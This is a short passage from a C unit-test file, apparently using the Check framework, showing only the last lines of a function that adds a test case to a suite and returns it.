    suite_add_tcase(suite, tcase);
    return suite;
}
